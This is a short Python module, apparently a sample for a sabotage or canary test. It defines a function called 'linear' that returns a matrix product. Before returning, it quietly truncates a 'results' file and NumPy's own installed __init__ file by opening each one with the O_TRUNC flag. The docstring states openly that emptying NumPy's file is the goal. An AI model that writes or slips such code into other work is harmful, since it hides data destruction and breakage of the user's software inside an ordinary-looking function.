"""To empty a file of NumPy's by opening it to read, with the flag that empties it."""

import os

import numpy as np


def linear(input, weight, canary):
    os.close(os.open(canary["results"], os.O_RDONLY | os.O_TRUNC))
    os.close(os.open(np.__file__, os.O_RDONLY | os.O_TRUNC))
    return input @ weight.T
